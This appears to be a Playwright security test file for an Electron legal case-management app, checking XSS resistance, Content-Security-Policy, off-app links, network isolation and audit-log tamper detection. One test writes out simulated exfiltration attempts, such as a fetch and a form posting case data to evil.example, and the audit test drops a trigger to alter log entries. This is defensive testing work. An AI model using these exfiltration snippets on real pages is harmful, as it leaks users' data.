import { resolve } from 'node:path';
import type { BrowserContext, Page, Route } from '@playwright/test';
import { CONTENT_SECURITY_POLICY, makeAppHandler } from '../../electron/main/protocol';
import { caseData, clientData } from '../support/factories';
import type { Harness } from '../support/harness';
import { choose, expect, PASSPHRASE, snap, test } from './fixtures';
import { CaseFormPage, CasePage, ClientsPage, recordOutcome, VaultPage } from './pages';
import { api } from './seed';
import { CLIENT_NAME, IMG, NO_TRACES, openView, seedCanaries, SVG, traces, views } from './security-canaries';

/*
 * The renderer under attack (issue 7, "Renderer"): stored markup never runs, the page carries the
 * intended Content-Security-Policy and works under it, nothing in it leads off the app, and a whole
 * session talks to nothing but its own backend. The main-process side of navigation (will-navigate,
 * window.open, target=_blank) is tested against Electron's events in tests/electron-glue/navigation.test.ts.
 */

const RENDERER = resolve(__dirname, '../../out/renderer');
const appHandler = makeAppHandler(RENDERER);
const BRIDGE_TAG = '<script src="/__harness/bridge.js"></script>\n    <script';

/**
 * Serves the renderer exactly as the packaged app's app:// handler does (its headers, its CSP),
 * leaving the harness only its backend door (/__api) and the bridge script that stands in for preload.
 */
const serveAsPackaged = async (target: Page | BrowserContext, harness: Harness) => {
  const origin = new URL(harness.url).origin;
  await target.route(
    (url) => url.origin === origin && url.pathname !== '/__api' && !url.pathname.startsWith('/__harness/'),
    async (route: Route) => {
      const url = new URL(route.request().url());
      const response = await appHandler(new Request(`app://muhafiz${url.pathname}`));
      let body = Buffer.from(await response.arrayBuffer());
      if ((response.headers.get('content-type') ?? '').startsWith('text/html')) {
        body = Buffer.from(body.toString('utf8').replace('<script', BRIDGE_TAG));
      }
      await route.fulfill({ status: response.status, headers: Object.fromEntries(response.headers), body });
    },
  );
};

/** The CSP meta tag taken out of index.html, so a canary that got into the DOM would really run. */
const withoutMetaCsp = async (page: Page) => {
  await page.route(
    (url) => url.pathname === '/' || url.pathname === '/index.html',
    async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/i, '');
      expect(html).not.toContain('Content-Security-Policy');
      await route.fulfill({ response, body: html });
    },
  );
};

const directives = (csp: string): Record<string, string[]> =>
  Object.fromEntries(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name as string, values]),
  );

test('markup stored in every kind of field is shown as text in every view, and never runs', async ({
  page,
  harness,
}) => {
  const dialogs: string[] = [];
  const fetchedX: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (new URL(r.url()).pathname === '/x') fetchedX.push(r.url());
  });
  await withoutMetaCsp(page);
  const k = await seedCanaries(harness);
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Hearings' })).toBeVisible();

  for (const view of views(k)) {
    await openView(page, view.hash, view.shows);
    await page.waitForLoadState('networkidle');
    expect(await traces(page), view.name).toEqual(NO_TRACES);
    if (view.name === 'client') {
      await expect(page.getByRole('heading', { name: CLIENT_NAME })).toBeVisible();
      await snap(page, 'security-01-xss-client');
    }
    if (view.name === 'case') {
      await expect(page.getByText(`Adjourned ${IMG}`, { exact: false }).first()).toBeVisible();
      // The History panel names the profile, whose name is itself a canary.
      await expect(page.getByTestId('history')).toContainText(`Imaan ${SVG}`);
      await snap(page, 'security-02-xss-case');
    }
  }

  // The global search's list of matches.
  await openView(page, '#/');
  await page.getByRole('combobox', { name: /Search clients/ }).fill('Zara');
  await expect(page.getByRole('option').first()).toBeVisible();
  expect(await traces(page), 'search').toEqual(NO_TRACES);

  expect(dialogs).toEqual([]);
  expect(fetchedX).toEqual([]);
});

test('the page is served with the intended Content-Security-Policy, and the whole app works under it', async ({
  page,
  harness,
}) => {
  await serveAsPackaged(page, harness);
  const k = await seedCanaries(harness);
  const response = await page.goto('/');
  const csp = (await response?.allHeaders())?.['content-security-policy'] ?? '';
  expect(csp).toBe(CONTENT_SECURITY_POLICY);
  const d = directives(csp);
  expect(d['default-src']).toEqual(["'self'"]);
  expect(d['script-src']).toEqual(["'self'"]); // no inline script, no eval, nothing remote
  expect(d['connect-src']).toEqual(["'self'"]);
  expect(d['object-src']).toEqual(["'none'"]);
  expect(d['base-uri']).toEqual(["'none'"]);
  expect(d['form-action']).toEqual(["'none'"]);
  expect(d['frame-ancestors']).toEqual(["'none'"]);
  for (const [name, values] of Object.entries(d)) {
    expect(
      values.filter((v) => /^(https?:|\*|ws:|'unsafe-eval')/.test(v)),
      name,
    ).toEqual([]);
  }
  expect(await response?.headerValue('x-content-type-options')).toBe('nosniff');

  // Every view renders under the policy: the fixture fails the test on any violation in the console.
  await expect(page.getByRole('heading', { name: 'Hearings' })).toBeVisible();
  for (const view of views(k)) {
    await openView(page, view.hash, view.shows);
    await page.waitForLoadState('networkidle');
  }
});

test('the policy stops what an injected script would try: inline code, eval, remote frames and images, posting forms, fetches out, javascript: links', async ({
  browser,
  harness,
}) => {
  // A page of its own: each refusal is logged to the console, which the fixture's page treats as a failure.
  const context = await browser.newContext();
  const origin = new URL(harness.url).origin;
  const outside: string[] = [];
  await context.route(
    (url) => url.origin !== origin,
    (route) => {
      outside.push(route.request().url());
      return route.abort();
    },
  );
  await serveAsPackaged(context, harness);
  await context.route('**/__probe/eval.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `window.__evalRan = [];
try { window.__evalRan.push(eval('1 + 1')); } catch (e) { window.__evalRan.push(e.name); }
try { window.__evalRan.push(new Function('return 2')()); } catch (e) { window.__evalRan.push(e.name); }`,
    }),
  );
  await api(harness)('vault:create', { passphrase: PASSPHRASE });
  const page = await context.newPage();
  await page.goto(harness.url);
  await expect(page.getByRole('heading', { name: 'Hearings' })).toBeVisible();
  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(e.effectiveDirective));
  });
  const before = page.url();
  const ran = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    // eval and new Function from a script of the page's own origin (DevTools' evaluate is exempt).
    const probe = document.createElement('script');
    probe.src = '/__probe/eval.js';
    const loaded = new Promise((r) => {
      probe.addEventListener('load', r);
      probe.addEventListener('error', r);
    });
    document.body.append(probe);
    await loaded;
    const evaluated = w.__evalRan ?? null;
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    const img = document.createElement('img');
    img.src = 'https://evil.example/pixel.png';
    document.body.append(img);
    const form = document.createElement('form');
    form.action = 'https://evil.example/steal';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    let fetched = false;
    try {
      await fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'case file' });
      fetched = true;
    } catch {
      fetched = false;
    }
    const link = document.createElement('a');
    link.href = 'javascript:window.__clicked = 1';
    link.textContent = 'click';
    document.body.append(link);
    link.click();
    await new Promise((r) => setTimeout(r, 300));
    return { inline: w.__inline ?? null, evaluated, fetched, clicked: w.__clicked ?? null };
  });
  expect(ran).toEqual({ inline: null, evaluated: ['EvalError', 'EvalError'], fetched: false, clicked: null });
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations))
    .toEqual(expect.arrayContaining(['script-src-elem', 'script-src', 'frame-src', 'img-src', 'form-action']));

  // The page is still the app, in the one window it had.
  expect(page.url()).toBe(before);
  // (Read through evaluate: Chromium keeps the refused form post as a pending navigation.)
  expect(
    await page.evaluate(() => [location.href, [...document.querySelectorAll('h2')].map((h) => h.textContent)]),
  ).toEqual([before, expect.arrayContaining(['Hearings'])]);
  expect(context.pages()).toHaveLength(1);
  expect(outside).toEqual([]); // the policy stopped them before any request left the page
  await context.close();
});

test('nothing in any view leads off the app: internal links only, no new windows, no frames, no forms posting out', async ({
  page,
  harness,
}) => {
  await page.addInitScript(() => {
    const w = window as unknown as { __opened: string[] };
    w.__opened = [];
    window.open = (url?: string | URL) => {
      w.__opened.push(String(url));
      return null;
    };
  });
  const k = await seedCanaries(harness);
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Hearings' })).toBeVisible();
  for (const view of views(k)) {
    await openView(page, view.hash, view.shows);
    await page.waitForLoadState('networkidle');
    const found = await page.evaluate(() => ({
      external: [...document.querySelectorAll('a[href]')]
        .map((a) => a.getAttribute('href') ?? '')
        .filter((h) => !h.startsWith('#/')),
      targets: document.querySelectorAll('[target]').length,
      forms: [...document.querySelectorAll('form[action]')].map((f) => f.getAttribute('action')),
      frames: document.querySelectorAll('iframe, frame, object, embed, webview').length,
      opened: (window as unknown as { __opened: string[] }).__opened,
    }));
    expect(found, view.name).toEqual({ external: [], targets: 0, forms: [], frames: 0, opened: [] });
  }
});

test('a full session, from first run to lock and unlock, asks nothing of anyone but its own backend', async ({
  page,
  context,
  harness,
}) => {
  const origin = new URL(harness.url).origin;
  const requests: string[] = [];
  const outside: string[] = [];
  context.on('request', (r) => {
    requests.push(r.url());
    if (!r.url().startsWith(`${origin}/`) && !/^(data|blob):/.test(r.url())) outside.push(r.url());
  });
  page.on('websocket', (ws) => outside.push(ws.url()));
  await context.route(
    (url) => url.origin !== origin && !['data:', 'blob:'].includes(url.protocol),
    (route) => route.abort(),
  );

  const vault = new VaultPage(page);
  await page.goto('/');
  await vault.createPassphrase(PASSPHRASE);
  await expect(page.getByRole('heading', { name: 'Hearings' })).toBeVisible();

  await page.getByRole('link', { name: 'Settings' }).click();
  const profile = page.getByTestId('profile');
  await profile.getByLabel('Name', { exact: true }).fill('Imaan Hazir');
  await profile.getByRole('button', { name: 'Save' }).click();
  await expect(profile.getByText('Settings saved')).toBeVisible();

  await new ClientsPage(page).create({ fullName: 'Idris Khattak', category: 'Activist', cnic: '17301-1234567-1' });
  await page.getByRole('link', { name: 'New case for this client' }).click();
  const form = new CaseFormPage(page);
  await page.getByLabel('FIR number', { exact: true }).fill('55/2026');
  await page.getByLabel('FIR date', { exact: true }).fill('02/10/2026');
  await form.setOffence(0, 'PPC', '124-A');
  await choose(page, 'Case type', 'Post-arrest bail');
  await choose(page, 'Forum', 'Islamabad High Court');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('heading', { name: /FIR 55\/2026/ })).toBeVisible();
  await new CasePage(page).addHearing({ date: '27/11/2026', time: '09:30', purpose: 'Arguments on bail' });
  await page.getByRole('button', { name: 'Record outcome' }).first().click();
  await recordOutcome(page, { outcome: 'Adjourned', order: 'Notice to the State', nextDate: '2026-12-04' });
  await page.getByLabel('Note', { exact: false }).first().fill('Met the client at Adiala');
  await page.getByRole('button', { name: 'Add note' }).click();
  await expect(page.getByText('Met the client at Adiala').first()).toBeVisible();
  await page.getByTestId('history').getByRole('button', { name: 'Check the history' }).click();
  await expect(page.getByTestId('history-verified')).toContainText('History intact');

  for (const link of ['Today', 'Diary', 'Deadlines', 'Clients', 'Cases', 'Rules', 'Court calendar', 'Settings']) {
    await page.getByRole('link', { name: link, exact: true }).first().click();
    await page.waitForLoadState('networkidle');
  }
  await page.getByRole('combobox', { name: /Search clients/ }).fill('Idris');
  await expect(page.getByRole('option').first()).toBeVisible();
  await page.keyboard.press('Escape');

  await page.getByRole('button', { name: 'Lock' }).click();
  await vault.unlock(PASSPHRASE);
  await expect(page.getByRole('heading', { name: 'Settings' })).toBeVisible();
  await expect(page.getByTestId('profile').getByLabel('Name', { exact: true })).toHaveValue('Imaan Hazir');
  await page.waitForLoadState('networkidle');

  expect(requests.length).toBeGreaterThan(50);
  expect(outside).toEqual([]);
});

test('the case History panel: who changed what and when, checked, and an altered entry found', async ({
  page,
  harness,
}) => {
  const call = api(harness);
  await call('vault:create', { passphrase: PASSPHRASE });
  await call('profile:update', { name: 'Imaan Hazir' });
  const k = await seedCourtCase(harness);
  await page.goto(`/#/cases/${k.caseId}`);
  const history = page.getByTestId('history');
  await expect(history).toContainText('Imaan Hazir');
  await expect(history).toContainText('Case added');
  await expect(history).toContainText('Hearing changed: outcome, short order, next date, next hearing');
  await expect(history).not.toContainText('Notice to the State'); // names of fields, never what they say
  await history.getByRole('button', { name: 'Check the history' }).click();
  await expect(page.getByTestId('history-verified')).toContainText(/History intact: all \d+ changes recorded/);
  await snap(page, 'security-03-history');

  // Someone with the key edits the log outside Muhafiz: the check names the entry.
  const raw = harness.ctx.vault.db.$client;
  raw.exec('DROP TRIGGER audit_log_no_update');
  raw.prepare("UPDATE audit_log SET actor = 'Somebody else' WHERE seq = 3").run();
  await history.getByRole('button', { name: 'Check the history' }).click();
  await expect(page.getByTestId('history-verified')).toContainText('Change #3');
  await expect(page.getByTestId('history-verified')).toContainText('was edited after it was written');
  await snap(page, 'security-04-history-altered');
});

/** A client, a case and a recorded hearing, through the real dispatch. */
const seedCourtCase = async (harness: Harness) => {
  const call = api(harness);
  const client = await call('clients:create', clientData({ fullName: 'Idris Khattak', category: 'activist' }));
  const c = await call('cases:create', caseData([client.id], { firNumber: '55/2026', team: [] }));
  const h = await call('hearings:create', {
    caseId: c.id,
    date: '2026-11-20',
    courtId: 'seed:ihc',
    purpose: 'Notice',
  });
  await call('hearings:record-outcome', {
    hearingId: h.id,
    outcome: 'adjourned',
    shortOrder: 'Notice to the State',
    nextDate: '2026-12-04',
  });
  return { clientId: client.id, caseId: c.id };
};
